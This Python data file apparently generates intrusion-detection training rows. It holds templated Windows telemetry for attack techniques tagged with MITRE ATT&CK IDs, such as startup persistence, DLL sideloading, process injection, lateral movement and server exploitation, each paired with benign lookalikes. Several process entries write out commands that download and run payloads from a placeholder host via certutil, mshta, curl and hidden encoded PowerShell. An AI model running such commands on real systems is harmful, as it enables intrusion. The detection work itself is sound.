"""Events of files, modules, processes, memory and connections as intrusions leave them, and what looks like them."""

from __future__ import annotations

from training.generators.attack_rows import parse_events

TRACE_EVENTS = parse_events(
    r"""
# Files that start something
tr-startup-by-office file +T1547.001: ‹office› ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«lnk¦vbs¦js¦exe¦url»
tr-startup-by-archiver file +T1547.001: C:\Program Files\«WinRAR\WinRAR¦7-Zip\7zFM».exe ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«exe¦lnk¦bat¦cmd»
tr-startup-by-rdp file +T1547.001: C:\Windows\System32\«mstsc¦rdpclip».exe ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«exe¦bat¦lnk»
tr-startup-child process +T1547.001: "C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.exe" ;; "C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.exe" ;; C:\Windows\explorer.exe ;; C:\Windows\Explorer.EXE
near-tr-startup file: «C:\Program Files\«Microsoft Office\root\Office16\ONENOTE.EXE¦Microsoft Office\root\Office16\OUTLOOK.EXE»¦C:\Users\‹user›\AppData\Local\«slack\Update¦Programs\‹Word›\‹Word›».exe» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\«Startup\Send to OneNote.lnk¦Slack Technologies Inc\Slack.lnk¦‹Word›.lnk»
tr-shortcut-written file +T1547.009: «‹ps›¦‹cmd›¦‹own›¦‹sys›\wscript.exe» ;; «C:\Users\‹user›\AppData\Roaming\Microsoft\Internet Explorer\Quick Launch\User Pinned\TaskBar¦C:\Users\‹user›\Desktop¦C:\Users\Public\Desktop»\«Google Chrome¦Microsoft Edge¦Outlook¦‹Word›».lnk
near-tr-shortcut file: «C:\Windows\explorer.exe¦‹s32›\msiexec.exe¦C:\Program Files (x86)\Google\Update\‹n›.0\setup.exe» ;; «C:\Users\‹user›\AppData\Roaming\Microsoft\Internet Explorer\Quick Launch\User Pinned\TaskBar¦C:\Users\Public\Desktop¦C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Recent»\«Google Chrome¦Microsoft Edge¦‹name›¦‹Word›».lnk
tr-task-file-by-script file +T1053.005: «‹ps›¦‹sys›\wscript.exe¦‹sys›\rundll32.exe¦‹own›» ;; C:\Windows\System32\Tasks\«‹name›¦Microsoft\Windows\‹Word›\‹name›¦‹letters8›»
near-tr-task-file file: ‹s32›\svchost.exe ;; C:\Windows\System32\Tasks\«‹Word›\‹Word› Update¦Microsoft\Windows\UpdateOrchestrator\«Reboot_AC¦Schedule Work»¦GoogleUpdateTaskMachineUA¦OneDrive Reporting Task-‹sid›»
tr-ps-profile-public file +T1546.013: «‹own›¦‹cmd›¦‹sys›\wscript.exe» ;; «C:\Windows\System32\WindowsPowerShell\v1.0\«Microsoft.PowerShell_¦»profile.ps1¦C:\Program Files\PowerShell\7\profile.ps1»
tr-shim-drop file +T1546.011: «‹own›¦‹ps›¦‹cmd›» ;; «C:\Windows\AppPatch\«Custom\¦»‹name›.sdb¦‹ownplace›\‹name›.sdb»
tr-screensaver-drop file +T1546.002: «‹own›¦‹ps›» ;; «C:\Users\‹user›\AppData\Roaming¦C:\Windows\System32¦C:\Windows»\‹name›.scr
tr-access-replaced file +T1546.008: «‹own›¦‹ps›¦C:\Windows\System32\xcopy.exe» ;; C:\Windows\System32\«sethc.exe¦Utilman.exe¦osk.exe¦AtBroker.exe»
near-tr-access file: «C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_‹hash›\TiWorker.exe¦C:\Windows\System32\poqexec.exe» ;; C:\Windows\System32\«sethc.exe¦Utilman.exe¦osk.exe¦Magnify.exe¦Narrator.exe»
tr-wmi-mof-file file +T1546.003: «‹own›¦‹ps›¦System» ;; C:\Windows\System32\wbem\«mof¦AutoRecover»\‹name›.mof
tr-scrcons-script loadsigned +T1546.003: ‹s32›\wbem\scrcons.exe ;; C:\Windows\System32\«vbscript¦jscript¦wbem\wbemdisp¦wshom.ocx¦scrrun».dll
tr-scrcons-net connected +T1546.003: ‹s32›\wbem\scrcons.exe ;; «80¦443¦8080» ;; «-¦‹name›.com»
tr-outlook-vba file +T1137: «‹own›¦‹ps›» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Outlook\VbaProject.OTM
near-tr-outlook file: C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE ;; C:\Users\‹user›\AppData\«Local\Microsoft\Outlook\‹user›@‹fqdn›.ost.tmp¦Roaming\Microsoft\Outlook\«VbaProject.OTM¦Outlook.srs¦RoamCache\Stream_‹name›.dat»»
# Modules at the wrong place
tr-lsass-package-load load +T1547.002: ‹lsass› ;; «C:\Windows\System32\«‹name›auth¦‹name›pkg¦package»¦‹ownplace›\‹name›».dll
near-tr-lsass-load loadsigned: ‹lsass› ;; C:\Windows\System32\«sspicli¦ncryptprov¦dpapisrv¦efslsaext¦scecli¦SshdPinAuthLsa¦LsaAdt¦cngcredui».dll
tr-spoolsv-monitor-load load +T1547.010: ‹s32›\spoolsv.exe ;; C:\Windows\System32\«‹name›mon¦‹name›¦evil‹n›».dll
tr-print-processor-load load +T1547.012: ‹s32›\spoolsv.exe ;; C:\Windows\System32\spool\prtprocs\«x64¦w32x86»\‹name›.dll
near-tr-spoolsv-load loadsigned: ‹s32›\spoolsv.exe ;; C:\Windows\System32\«spool\prtprocs\x64\«winprint¦hpzppwn7¦‹name›pp»¦localspl¦tcpmon¦spool\drivers\x64\3\«UNIDRV¦PS5UI¦mxdwdrv¦‹name›ui»».dll
tr-time-provider-load load +T1547.003: ‹s32›\svchost.exe ;; «‹ownplace›\‹name›.dll¦C:\Windows\System32\«gametime¦‹name›time».dll»
tr-com-load load +T1546.015: C:\Windows\explorer.exe ;; «C:\Users\‹user›\AppData\«Roaming¦Local\Temp»\‹name›¦C:\Users\Public\‹name›¦C:\ProgramData\‹name›\‹name›».dll
near-tr-explorer-load loadsigned: C:\Windows\explorer.exe ;; «C:\Users\‹user›\AppData\Local\Microsoft\OneDrive\2‹n›.‹n›.0‹n›.0001\FileSyncShell64¦C:\Program Files\7-Zip\7-zip¦C:\Program Files\Notepad++\NppShell_0‹n›¦C:\Program Files\‹Word›\‹name›ext».dll
tr-appinit-load load +T1546.010: «C:\Windows\explorer.exe¦‹s32›\notepad.exe¦‹browser›¦‹s32›\calc.exe» ;; «C:\Windows\System32\«appinit‹n›¦‹name›init»¦‹ownplace›\T1546.010».dll
tr-sideload-signed-host load +T1574.001: «C:\ProgramData\‹Word›¦C:\Users\Public\‹Word›¦C:\Users\‹user›\AppData\Roaming\‹Word›¦‹ownplace›»\«rcdll¦AvastSvc¦hpqhvind¦AcroDist¦mcods¦iTunesHelper¦wmplayer¦SophosUI¦DISM¦esentutl».exe ;; «C:\ProgramData\‹Word›¦C:\Users\Public\‹Word›¦C:\Users\‹user›\AppData\Roaming\‹Word›¦‹ownplace›»\«wsc¦hpqhvsei¦vsodscpl¦CoreFoundation¦log¦sqlite3¦vntfxf32¦dismcore¦msvcr100¦userenv».dll
tr-sideload-system-copy load +T1574.001: «‹ownplace›¦C:\ProgramData\‹Word›»\«calc¦rdpclip¦mspaint¦wermgr¦bthudtask¦msdtc¦DeviceEnroller¦SndVol».exe ;; «‹ownplace›¦C:\ProgramData\‹Word›»\«WindowsCodecs¦wer¦UxTheme¦MFC42u¦faultrep¦edputil¦mtxclu».dll
tr-phantom-dll load +T1574.001: ‹s32›\«svchost¦SearchProtocolHost¦MsMpEng¦wlms¦spoolsv¦CompatTelRunner¦SearchIndexer».exe ;; C:\Windows\System32\«fveapi.dll¦msTracer.dll¦cdpsgshims.dll¦Wow64Log.dll¦diagtrack_win.dll¦edgegdi.dll¦ShellChromeAPI.dll¦WLBSCTRL.dll»
tr-hijack-remote-drop file +T1574.001: System ;; C:\«Windows\System32\«wlbsctrl¦wbem\wbemcomn¦TSMSISrv¦oci»¦Program Files\Internet Explorer\iertutil¦Windows\«srvcli¦SspiCli»».dll
tr-hijack-app-folder file +T1574.001: «‹ps›¦‹cmd›¦‹own›» ;; «C:\Users\‹user›\AppData\Local\«Microsoft\Teams\current¦Microsoft\OneDrive¦Programs\‹Word›»¦C:\Program Files\‹Word›»\«version¦dbghelp¦userenv¦cryptsp¦profapi¦wtsapi32¦secur32».dll
near-tr-sideload load: «C:\Users\‹user›\AppData\Local\«Programs\‹Word›\‹Word›¦Discord\app-1.0.‹pid›\Discord¦Microsoft\Teams\current\Teams».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; C:\Users\‹user›\AppData\Local\«Programs\‹Word›¦Discord\app-1.0.‹pid›¦Microsoft\Teams\current»\«ffmpeg¦libEGL¦vk_swiftshader¦d3dcompiler_47».dll
near-tr-drop-dll file: «‹s32›\msiexec.exe¦C:\Users\‹user›\AppData\Local\‹Word›\Update.exe¦C:\Windows\Temp\‹guid›\setup.exe» ;; «C:\Program Files\‹Word›¦C:\Users\‹user›\AppData\Local\Programs\‹Word›»\«version¦dbghelp¦msvcp140¦vcruntime140¦‹name›».dll
tr-unquoted-file file +T1574.009: «‹own›¦‹ps›¦‹cmd›» ;; C:\«Program¦Program Files\«Common¦‹Word›¦Some»».exe
tr-service-binary-replaced file +T1574.010: «‹ps›¦‹cmd›¦‹own›» ;; C:\Program Files«¦ (x86)»\‹Word›\«‹Word›Service¦‹name›svc¦‹Word›Agent».exe
near-tr-service-binary file: «‹s32›\msiexec.exe¦C:\Windows\Temp\‹guid›\‹name›-setup.exe¦C:\Program Files\‹Word›\updater.exe» ;; C:\Program Files«¦ (x86)»\‹Word›\«‹Word›Service¦‹name›svc¦‹Word›Agent».exe
tr-clr-in-native loadsigned +T1620: «‹s32›\«notepad¦spoolsv¦cmstp¦WerFault¦gpupdate¦SearchProtocolHost»¦‹sys›\«wscript¦cscript¦mshta¦regsvr32»».exe ;; C:\Windows\«Microsoft.NET\Framework64\v4.0.30319\«clr¦clrjit¦mscoreei»¦System32\mscoree».dll
near-tr-clr loadsigned: «‹ps›¦‹s32›\«mmc¦wsmprovhost¦sdiagnhost¦ServerManager»¦C:\Program Files\‹Word›\‹name›¦C:\Windows\CCM\CcmExec».exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\«clr¦clrjit¦mscoreei».dll
tr-vba-automation loadsigned +T1559.001: ‹office› ;; C:\Windows\System32\«wbem\wbemdisp.dll¦wbem\wbemcomn.dll¦wshom.ocx»
tr-taskschd-by-script loadsigned +T1053.005: ‹sys›\«wscript¦cscript¦mshta».exe ;; C:\Windows\System32\taskschd.dll
tr-wmi-by-script loadsigned +T1047: «‹sys›\«wscript¦cscript¦mshta¦regsvr32».exe» ;; C:\Windows\System32\wbem\«wbemdisp¦wbemprox¦fastprox».dll
near-tr-office-load loadsigned: ‹office› ;; «C:\Windows\System32\«msxml6¦winspool.drv¦davclnt¦wininet¦propsys».dll¦C:\Program Files\Microsoft Office\root\Office16\«GKWord¦OART¦IGX».DLL»
tr-driver-unsigned driver +T1014: «‹ownplace›\‹name›.sys¦C:\Windows\System32\drivers\‹letters8›.sys¦C:\Windows\System32\‹name›.sys» ;; «¦»
tr-driver-abused driver +T1068: «‹ownplace›¦C:\Windows\System32\drivers»\«AsIO64¦ene¦WinRing0x64¦iqvw64e¦kprocesshacker¦zamguard64¦truesight¦procexp152¦elrawdsk».sys ;; «ASUSTeK Computer Inc.¦ENE Technology¦Noriyuki MIYAZAKI¦Intel Corporation¦Zemana Ltd.¦Adlice¦EldoS Corporation»
near-tr-driver driver: C:\Windows\System32\drivers\«WUDFRd¦nvlddmkm¦vmci¦VBoxDrv¦npcap¦SysmonDrv¦tap0901¦ksapi64».sys ;; «Microsoft Windows¦NVIDIA Corporation¦VMware, Inc.¦Oracle Corporation¦Insecure.Com LLC¦OpenVPN Technologies, Inc.»
# Memory of others
tr-thread-browser thread +T1055: «‹own›¦‹ps›¦‹sys›\rundll32.exe» ;; ‹browser› ;; - ;; -
tr-thread-service-host thread +T1055: «‹sys›\«rundll32¦regsvr32¦mshta¦wscript»¦‹office›».exe ;; ‹s32›\«svchost¦spoolsv¦SearchIndexer¦winlogon».exe ;; «-¦UNKNOWN» ;; -
tr-thread-pe thread +T1055: ‹own› ;; «‹s32›\«notepad¦mspaint¦calc».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; - ;; -
tr-thread-library thread +T1055.001: «‹own›¦‹s32›\mavinject.exe¦‹ps›» ;; «‹s32›\«notepad¦winlogon¦svchost».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; C:\Windows\System32\«KERNEL32.DLL¦KERNELBASE.dll¦kernel32.dll» ;; «LoadLibraryA¦LoadLibraryW¦LoadLibraryExW»
tr-thread-wuauclt thread +T1055: ‹s32›\«wuauclt¦msiexec¦odbcconf¦InstallUtil».exe ;; «C:\Windows\explorer.exe¦‹s32›\«notepad¦svchost».exe» ;; - ;; -
near-tr-thread-developer thread: «C:\Program Files\«Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv¦VMware\VMware Tools\vmtoolsd¦Citrix\ICAService\CtxSvcHost¦NVIDIA Corporation\NvContainer\nvcontainer»¦C:\Program Files (x86)\Steam\GameOverlayUI».exe ;; «C:\Program Files\‹Word›\‹name›.exe¦C:\Users\‹user›\source\repos\‹Word›\bin\Debug\‹Word›.exe¦‹browser›» ;; C:\Windows\System32\«ntdll.dll¦KERNELBASE.dll¦kernel32.dll» ;; «DbgUiRemoteBreakin¦LoadLibraryW¦-»
near-tr-thread-system thread: ‹s32›\«dwm¦csrss¦VSSVC¦wininit¦smss¦fontdrvhost».exe ;; «‹s32›\«csrss¦dwm¦svchost¦conhost».exe¦‹browser›» ;; «C:\Windows\System32\ntdll.dll¦-¦C:\Windows\System32\winsrv.dll» ;; «-¦CtrlRoutine»
tr-hollow-system-child access +T1055.012: «‹own›¦‹ps›¦‹sys›\«wscript¦mshta».exe» ;; ‹sys›\«svchost¦dllhost¦wermgr¦backgroundTaskHost¦SearchProtocolHost¦vbc¦AppLaunch».exe ;; «0x1fffff¦0x1f3fff¦0x38¦0x838» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\KERNEL32.DLL|UNKNOWN(‹hex›)
tr-hollow-dotnet access +T1055.012: «‹own›¦‹ps›» ;; C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\«RegAsm¦RegSvcs¦InstallUtil¦MSBuild¦AppLaunch¦vbc».exe ;; «0x1fffff¦0x1f0fff¦0x1f3fff» ;; C:\Windows\SYSTEM32\KERNELBASE.dll|C:\Windows\Microsoft.NET\Framework\v4.0.30319\clr.dll|UNKNOWN(‹hex›)
tr-tamper-system sysmon +T1055.012: 25 ;; Image=‹sys›\«wermgr¦dllhost¦svchost¦SearchProtocolHost¦backgroundTaskHost¦msiexec¦mobsync».exe ;; Type=Image is replaced ;; User=‹domain›\‹user›
near-tr-tamper sysmon: 25 ;; Image=«C:\Program Files«¦ (x86)»\«Google\Chrome\Application\chrome¦Microsoft\Edge\Application\msedge¦Google\Update\GoogleUpdate¦Mozilla Firefox\firefox»¦C:\Windows\SoftwareDistribution\Download\Install\AM_Delta_Patch_1.‹n›¦C:\Users\‹user›\AppData\Local\Programs\Microsoft VS Code\Code».exe ;; Type=Image is «replaced¦locked for access» ;; User=‹domain›\‹user›
tr-apc-access access +T1055.004: ‹own› ;; «‹s32›\«notepad¦svchost¦nslookup¦wmiprvse».exe¦C:\Windows\explorer.exe» ;; «0x1fffff¦0x143a¦0x3a» ;; C:\Windows\System32\KERNELBASE.dll|‹ownplace›\‹name›.exe
tr-inject-unknown access +T1055: «‹sys›\«rundll32¦regsvr32¦msbuild¦mshta».exe¦‹own›» ;; «‹browser›¦C:\Program Files\‹Word›\‹name›.exe¦‹s32›\RuntimeBroker.exe» ;; «0x1f0fff¦0x1fffff¦0x143a¦0x47a¦0x2a» ;; UNKNOWN(‹hex›)|UNKNOWN(‹hex›)
near-tr-access-tools access: «C:\Program Files\«Microsoft Visual Studio\2022\Community\Common7\IDE\devenv¦Citrix\ICAService\picaSvc2¦‹Word›\‹Word›Agent¦VMware\VMware Tools\vmtoolsd».exe¦C:\Windows\CCM\CcmExec.exe» ;; «C:\Windows\explorer.exe¦‹browser›¦‹s32›\«svchost¦notepad».exe» ;; «0x1fffff¦0x1410¦0x1f3fff¦0x1478» ;; C:\Windows\System32\KERNELBASE.dll|C:\Program Files\‹Word›\‹name›.dll
near-tr-access-parent access: «‹cmd›¦‹ps›¦C:\Windows\explorer.exe» ;; «‹s32›\«conhost¦whoami¦ipconfig¦findstr».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; 0x1fffff ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\KERNEL32.DLL|«C:\Windows\System32\cmd.exe¦C:\Windows\System32\shell32.dll¦C:\Windows\assembly\NativeImages_v4.0.30319_64\System\‹hash›\System.ni.dll»
tr-token-service-access access +T1134.001: «‹own›¦‹ps›» ;; ‹s32›\«winlogon¦services¦TrustedInstaller¦SearchIndexer¦spoolsv».exe ;; «0x400¦0x1400¦0x1478» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)
tr-parent-odd-shell process +T1134.004: @ ;; «cmd.exe¦powershell.exe -nop -w hidden -enc ‹enc›¦"C:\Windows\System32\cmd.exe" /c ‹own›¦‹own›» ;; ‹s32›\«dwm¦csrss¦fontdrvhost¦LsaIso¦wininit¦smss».exe
tr-parent-spoofed-tool process +T1134.004: @ ;; "‹own›" ;; «‹s32›\«lsass¦winlogon¦RuntimeBroker¦sihost».exe»
near-tr-parent process: @ ;; «C:\Windows\System32\fontdrvhost.exe¦"dwm.exe"¦C:\Windows\system32\userinit.exe¦"LogonUI.exe" /flags:0x2 /state0:0xa3f‹pid› /state1:0x41c64e6d¦C:\Windows\system32\mpnotify.exe» ;; ‹s32›\winlogon.exe ;; winlogon.exe
tr-raw-disk-read sysmon +T1006: 9 ;; Image=«‹own›¦‹ps›¦‹sys›\rundll32.exe¦C:\Python39\python.exe» ;; Device=\Device\«HarddiskVolume‹n›¦Harddisk0\DR0»
near-tr-raw-disk sysmon: 9 ;; Image=«C:\Program Files\«Veeam\Endpoint Backup\Veeam.EndPoint.Manager¦Macrium\Reflect\ReflectBin¦‹Word› Backup\‹name›¦CrystalDiskInfo\DiskInfo64».exe¦‹s32›\«chkdsk¦vds¦Defrag¦fsutil».exe» ;; Device=\Device\«HarddiskVolume‹n›¦Harddisk0\DR0»
# Pipes and shares
tr-pipe-tool-names pipe +T1569.002: «System¦C:\Windows\«‹letters8›¦RemComSvc¦PAExec-‹n›-‹name›».exe» ;; \«RemCom_stdin‹name›‹pid›0¦PSEXESVC-‹host›-‹pid›-stdin¦paexec-‹pid›-stdout¦svcctl_‹name›¦xcmd_‹n›»
tr-pipe-c2 pipe +T1055: «‹sys›\«rundll32¦dllhost¦werfault¦mobsync¦svchost».exe¦‹own›» ;; \«mypipe-f«81¦a4»¦fullduplex_«4a¦81»¦halfduplex_«e1¦b2»¦rpc_«3f¦91»¦win_svc_«a1¦12»¦spoolss_«7f¦02»¦demoagent_«11¦22»¦gruntsvc¦ntsvcs_«1a¦f3»»
tr-pipe-adfs-database pipe +T1552.004: «‹ps›¦‹own›» ;; \MICROSOFT##WID\tsql\query
near-tr-pipe-adfs pipe: C:\«Windows\ADFS\Microsoft.IdentityServer.ServiceHost¦Windows\WID\Binn\sqlwriter¦Windows\System32\«mmc¦wsmprovhost»¦Program Files\Update Services\Services\WsusService».exe ;; \MICROSOFT##WID\tsql\query
tr-pipe-efs pipe +T1068: ‹own› ;; \«‹name›\pipe\srvsvc¦‹guid›\pipe\epmapper¦‹word›\pipe\lsarpc»
near-tr-pipe pipe: «C:\Program Files\«Docker\Docker\resources\com.docker.backend¦OpenSSH\ssh-agent¦‹Word›\‹name›».exe¦‹s32›\«svchost¦spoolsv¦lsass».exe» ;; \«docker_engine¦openssh-ssh-agent¦spoolss¦srvsvc¦epmapper¦‹Word›.Service¦dockerBackendApiServer¦ROUTER»
tr-share-temp-task share +T1053.005: «ADMIN$¦C$» ;; «Windows\System32\Tasks\«‹name›¦‹letters8›»¦System32\Tasks\‹name›»
tr-share-tool-write share +T1021.002: «C$¦ADMIN$¦D$» ;; «Windows\Temp\«‹letters8›¦‹name›».«exe¦dll»¦ProgramData\‹name›.«exe¦bat¦ps1»¦Users\Public\«Music\¦»‹name›.«exe¦dll»¦PerfLogs\‹name›.exe¦‹letters8›.bat»
tr-share-sysvol-task security +T1484.001: 5145 ;; ObjectType=File ;; ShareName=\\*\SYSVOL ;; ShareLocalPath=\??\C:\Windows\SYSVOL\sysvol ;; RelativeTargetName=‹fqdn›\Policies\‹guid›\«Machine\Preferences\ScheduledTasks\ScheduledTasks.xml¦User\Preferences\ScheduledTasks\ScheduledTasks.xml¦Machine\Scripts\«scripts.ini¦Startup\‹name›.bat»¦Machine\Microsoft\Windows NT\SecEdit\GptTmpl.inf» ;; AccessMask=«0x2¦0x6¦0x17019f¦0x12019f» ;; IpAddress=‹ip› ;; IpPort=5‹pid›
near-tr-share-preferences security: 5145 ;; ObjectType=File ;; ShareName=\\*\SYSVOL ;; ShareLocalPath=\??\C:\Windows\SYSVOL\sysvol ;; RelativeTargetName=‹fqdn›\Policies\‹guid›\«Machine\Preferences\ScheduledTasks\ScheduledTasks.xml¦User\Preferences\Drives\Drives.xml¦Machine\Preferences\Groups\Groups.xml¦Machine\Microsoft\Windows NT\SecEdit\GptTmpl.inf¦Machine\Scripts\scripts.ini» ;; AccessMask=«0x1¦0x120089¦0x80» ;; IpAddress=‹ip› ;; IpPort=5‹pid›
tr-share-lure share +T1187: ‹project› ;; «@‹name›.«scf¦url»¦‹word›\@‹name›.lnk¦desktop.ini.scf¦‹name›.library-ms¦‹name›.searchConnector-ms»
tr-share-locked share +T1486: «‹project›¦data$¦C$» ;; ‹word›\‹name›.«xlsx¦docx¦pdf¦bak».«locked¦encrypted¦crypt¦‹letters8›¦lockbit¦akira»
near-tr-share-policy share: SYSVOL ;; ‹fqdn›\«Policies\‹guid›\«gpt.ini¦Machine\Registry.pol¦Machine\comment.cmtx»¦scripts\«logon.bat¦‹name›.vbs»»
near-tr-share-office share: «‹project›¦data$¦home» ;; «‹word›\~$‹name›.docx¦‹user›\‹name›.xlsx¦‹word›\‹name›.«lnk¦pdf¦zip»¦desktop.ini¦Thumbs.db»
tr-remote-write-binary file +T1021.002: System ;; «C:\Windows\«‹letters8›¦‹name›¦Temp\‹letters8›»¦C:\Users\Public\‹name›¦C:\ProgramData\‹name›».«exe¦dll¦bat»
tr-copy-to-share file +T1570: «‹cmd›¦‹ps›¦‹own›¦‹s32›\«xcopy¦Robocopy».exe» ;; \\«‹server›¦‹ip›»\«C$¦ADMIN$»\«Windows\Temp¦ProgramData¦Users\Public¦PerfLogs¦Temp»\‹name›.«exe¦dll¦ps1¦bat»
near-tr-remote-write file: System ;; C:\«Windows\ccmsetup\ccmsetup.exe¦Windows\Temp\‹Word›Agent\‹Word›.msi¦Shares\‹project›\‹name›.docx¦inetpub\logs\‹name›.log¦Windows\System32\LogFiles\‹name›.etl»
near-tr-copy-to-share file: «C:\Windows\explorer.exe¦‹office›¦‹s32›\Robocopy.exe» ;; \\«‹server›¦‹fqdn›»\«‹project›¦home$\‹user›¦software»\‹name›.«docx¦xlsx¦zip¦msi¦pdf»
# Children that tell where they came from
tr-child-wsmprovhost process +T1021.006: @ ;; «"‹own›"¦"C:\Windows\system32\rundll32.exe" ‹ownplace›\‹name›.dll,‹Word›¦"C:\Windows\system32\net.exe" user¦"C:\Windows\system32\nltest.exe" /dclist:¦cmd.exe /c whoami» ;; ‹s32›\wsmprovhost.exe ;; C:\Windows\system32\wsmprovhost.exe -Embedding
tr-child-winrshost process +T1021.006: @ ;; «C:\Windows\system32\cmd.exe /C «hostname¦net localgroup administrators¦‹own›¦type C:\Users\‹user›\Desktop\‹name›.txt»¦"C:\Windows\system32\cmd.exe" /C powershell -enc ‹enc›» ;; ‹s32›\winrshost.exe ;; C:\Windows\system32\WinrsHost.exe -Embedding
near-tr-child-wsmprovhost process: @ ;; «"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\‹user›\AppData\Local\Temp\‹name›\‹name›.cmdline"¦C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦"C:\Windows\System32\msiexec.exe" /i \\‹server›\software\‹Word›.msi /qn» ;; ‹s32›\wsmprovhost.exe ;; C:\Windows\system32\wsmprovhost.exe -Embedding
tr-child-dcom-mshta process +T1021.003: C:\Windows\System32\mshta.exe ;; C:\Windows\System32\mshta.exe -Embedding ;; ‹s32›\svchost.exe ;; C:\Windows\system32\svchost.exe -k DcomLaunch
tr-child-dcom-excel process +T1021.003: @ ;; «cmd.exe /c ‹own›¦mshta http://‹ip›/‹name›.hta¦powershell -nop -enc ‹enc›¦C:\Users\‹user›\AppData\Local\Microsoft\WindowsApps\foxprow.exe» ;; C:\Program Files\Microsoft Office\root\Office16\«EXCEL¦OUTLOOK¦POWERPNT».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding
tr-child-services-shell process +T1569.002: @ ;; «%COMSPEC% /Q /c ‹ownplace›\‹letters8›.bat¦"C:\Windows\‹letters8›.exe"¦rundll32.exe ‹ownplace›\‹letters8›.dll,a /p:‹letters8›» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
tr-child-psexec-tool process +T1569.002: @ ;; «"cmd.exe" /c ‹own›¦"‹own›"¦"powershell.exe" -ep bypass -f ‹ownplace›\‹name›.ps1¦"C:\Windows\system32\rundll32.exe" ‹ownplace›\‹name›.dll,‹Word›» ;; C:\Windows\«PSEXESVC¦PAExec-‹pid›-‹server›¦‹letters8›».exe
tr-child-wmi-lolbin process +T1047: @ ;; «rundll32.exe ‹ownplace›\‹name›.dll,#1¦C:\Windows\System32\msbuild.exe ‹ownplace›\‹name›.xml¦mshta.exe http://‹ip›/‹name›.hta¦cmd /c vssadmin list shadows > ‹ownplace›\‹name›.txt» ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
tr-child-wmi-output file +T1047: ‹cmd› ;; «C:\Windows\__17‹pid›‹pid›.‹pid›¦\\127.0.0.1\ADMIN$\__17‹pid›‹pid›.‹pid›»
near-tr-child-services process: @ ;; «C:\Windows\System32\VSSVC.exe¦"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹n›.7-0\MpDefenderCoreService.exe"¦C:\Windows\servicing\TrustedInstaller.exe¦C:\Windows\system32\SearchIndexer.exe /Embedding¦"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
tr-child-exchange process +T1190: @ ;; «cmd.exe /c ‹own›¦powershell.exe -enc ‹enc›¦"cmd.exe" /c whoami» ;; C:\Program Files\Microsoft\Exchange Server\V15\Bin\«UMWorkerProcess¦UMService¦MSExchangeMailboxReplication».exe
tr-child-java-server process +T1190: @ ;; «powershell -nop -enc ‹enc›¦cmd.exe /c certutil -urlcache -f http://‹ip›/‹name›.exe ‹own›¦cmd /c whoami > ..\webapps\ROOT\‹name›.txt¦curl http://‹ip›/‹name›.bat -o ‹ownplace›\‹name›.bat» ;; «C:\Program Files\VMware\VMware View\Server\bin\ws_TomcatService.exe¦C:\Program Files\Atlassian\Confluence\bin\tomcat9.exe¦C:\Oracle\Middleware\jdk\bin\java.exe¦C:\Program Files\ManageEngine\‹Word›\jre\bin\java.exe» ;; «"ws_TomcatService.exe" -SCMStartup TomcatService¦java.exe -Dweblogic.Name=AdminServer weblogic.Server¦tomcat9.exe //RS//Confluence»
tr-child-sql process +T1505.001: @ ;; «"C:\Windows\system32\cmd.exe" /c «whoami¦net user¦‹own›¦powershell -enc ‹enc›¦certutil -urlcache -f http://‹ip›/‹name›.exe ‹own›»» ;; C:\Program Files\Microsoft SQL Server\MSSQL1«4¦5¦6».«MSSQLSERVER¦SQLEXPRESS»\MSSQL\Binn\sqlservr.exe ;; "C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER
near-tr-child-server process: @ ;; «C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1¦"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\DatabaseMail.exe" DB:msdb¦"C:\Program Files\Java\jre1.8.0_‹n›\bin\java.exe" -jar C:\‹word›\‹name›.jar» ;; «C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe¦C:\Program Files\VMware\VMware View\Server\bin\ws_TomcatService.exe¦C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe»
tr-exchange-writes file +T1190: C:\Program Files\Microsoft\Exchange Server\V15\Bin\UM«WorkerProcess¦Service».exe ;; «C:\inetpub\wwwroot\aspnet_client\‹name›.aspx¦C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\«owa\auth¦ecp\auth»\‹name›.«aspx¦js»»
